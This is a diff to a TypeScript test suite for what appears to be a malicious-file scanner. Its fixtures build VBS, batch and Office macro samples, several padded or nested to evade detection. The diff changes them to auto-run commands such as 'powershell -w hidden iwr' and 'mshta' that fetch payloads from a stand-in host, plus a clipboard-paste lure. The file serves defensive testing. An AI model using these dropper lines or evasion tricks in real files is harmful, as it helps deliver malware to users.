@@ -10,7 +10,7 @@ import { writeZip } from './testing/zip-writer.ts'
 
 const { inspect } = useInspector()
 const packed = (name: string, data: string): Buffer => writeZip([{ name, data }])
-const RUN = 'new ActiveXObject("WScript.Shell").Run("powershell -enc AAAA")'
+const RUN = 'new ActiveXObject("WScript.Shell").Run("powershell -w hidden iwr http://192.0.2.1/a")'
 const COMMAND = 'powershell -w hidden -c "iwr http://192.0.2.1/a -OutFile a.exe"'
 const COPY = `navigator.clipboard.writeText('mshta http://192.0.2.1/a.hta')`
 const page = (head: string, script: string): Buffer =>
@@ -48,21 +48,21 @@ suite('after much else', () => {
       'a Visual Basic script',
       packed(
         'a.vbs',
-        `${`' ${'x'.repeat(97)}\n`.repeat(21_000)}CreateObject("WScript.Shell").Run "powershell -enc AAAA"\n`,
+        `${`' ${'x'.repeat(97)}\n`.repeat(21_000)}CreateObject("WScript.Shell").Run "powershell -w hidden iwr http://192.0.2.1/a"\n`,
       ),
     ],
     [
       'a Visual Basic text',
       packed(
         'a.vbs',
-        `${times(30, (i) => `Execute "a=${i}"\n`)}Execute "Create" & "Object(""WScript.Shell"").Run ""powershell -enc AAAA"""\n`,
+        `${times(30, (i) => `Execute "a=${i}"\n`)}Execute "Create" & "Object(""WScript.Shell"").Run ""powershell -w hidden iwr http://192.0.2.1/a"""\n`,
       ),
     ],
     [
       'a Visual Basic call',
       packed(
         'a.vbs',
-        `Set s = CreateObject("WScript.Shell")\n${times(2_500, (i) => `s.RegRead "a${i}"\n`)}s.Run "powershell -enc AAAA"\n`,
+        `Set s = CreateObject("WScript.Shell")\n${times(2_500, (i) => `s.RegRead "a${i}"\n`)}s.Run "powershell -w hidden iwr http://192.0.2.1/a"\n`,
       ),
     ],
     ['a batch file', packed('a.bat', `@echo off\r\n${'rem a\r\n'.repeat(25_000)}mshta http://192.0.2.1/a.hta\r\n`)],
@@ -167,7 +167,7 @@ suite('after much else', () => {
     ],
     [
       'a module',
-      macroDocument('Sub AutoOpen()\r\nShell "powershell -enc AAAA"\r\nEnd Sub\r\n', {
+      macroDocument('Sub AutoOpen()\r\nShell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n', {
         compiled: Buffer.concat([
           Buffer.from('01'.repeat(100), 'hex'),
           Buffer.from('01 03b0 00 6161'.replaceAll(' ', '').repeat(100), 'hex'),
@@ -175,14 +175,22 @@ suite('after much else', () => {
         declaredOffset: 0,
       }),
     ],
-    ['a nested expression', macro(`Shell ${'('.repeat(70)}"powershell -enc AAAA"${')'.repeat(70)}`)],
-    ['a chain of members', macro(`Shell "powershell -enc AAAA" & a${'.b'.repeat(120)}`)],
-    ['nested blocks', macro(`${'If 1 Then\r\n'.repeat(70)}Shell "powershell -enc AAAA"\r\n${'End If\r\n'.repeat(70)}`)],
+    [
+      'a nested expression',
+      macro(`Shell ${'('.repeat(70)}"powershell -w hidden iwr http://192.0.2.1/a"${')'.repeat(70)}`),
+    ],
+    ['a chain of members', macro(`Shell "powershell -w hidden iwr http://192.0.2.1/a" & a${'.b'.repeat(120)}`)],
+    [
+      'nested blocks',
+      macro(
+        `${'If 1 Then\r\n'.repeat(70)}Shell "powershell -w hidden iwr http://192.0.2.1/a"\r\n${'End If\r\n'.repeat(70)}`,
+      ),
+    ],
     [
       'nested procedures',
       macro(
         'A0',
-        `${times(40, (i) => `Sub A${i}()\r\nA${i + 1}\r\nEnd Sub\r\n`)}Sub A40()\r\nShell "powershell -enc AAAA"\r\nEnd Sub\r\n`,
+        `${times(40, (i) => `Sub A${i}()\r\nA${i + 1}\r\nEnd Sub\r\n`)}Sub A40()\r\nShell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n`,
       ),
     ],
     ['nested texts of a script', packed('a.vbs', `Execute ${nestedExecute(6)}\r\n`)],
@@ -195,18 +203,20 @@ suite('after much else', () => {
     ],
     [
       'a macro',
-      macroDocument(`Sub AutoOpen()\r\n${BUSY_BASIC}${BUSY_BASIC}Shell "powershell -enc AAAA"\r\nEnd Sub\r\n`),
+      macroDocument(
+        `Sub AutoOpen()\r\n${BUSY_BASIC}${BUSY_BASIC}Shell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n`,
+      ),
     ],
     [
       'a procedure',
       macroDocument(
-        `${times(3_000, (i) => `Sub A${i}()\r\nx = ${i}\r\nEnd Sub\r\n`)}Sub AutoOpen()\r\nShell "powershell -enc AAAA"\r\nEnd Sub\r\n`,
+        `${times(3_000, (i) => `Sub A${i}()\r\nx = ${i}\r\nEnd Sub\r\n`)}Sub AutoOpen()\r\nShell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n`,
       ),
     ],
     [
       'a long macro',
       macroDocument(
-        `${`' ${'x'.repeat(97)}\r\n`.repeat(21_000)}Sub AutoOpen()\r\nShell "powershell -enc AAAA"\r\nEnd Sub\r\n`,
+        `${`' ${'x'.repeat(97)}\r\n`.repeat(21_000)}Sub AutoOpen()\r\nShell "powershell -w hidden iwr http://192.0.2.1/a"\r\nEnd Sub\r\n`,
       ),
     ],
     [
@@ -295,7 +305,9 @@ suite('after much else', () => {
 
 function nestedExecute(count: number): string {
   const code =
-    count === 0 ? 'CreateObject("WScript.Shell").Run "powershell -enc AAAA"' : `Execute ${nestedExecute(count - 1)}`
+    count === 0
+      ? 'CreateObject("WScript.Shell").Run "powershell -w hidden iwr http://192.0.2.1/a"'
+      : `Execute ${nestedExecute(count - 1)}`
   return `"${code.replaceAll('"', '""')}"`
 }
 
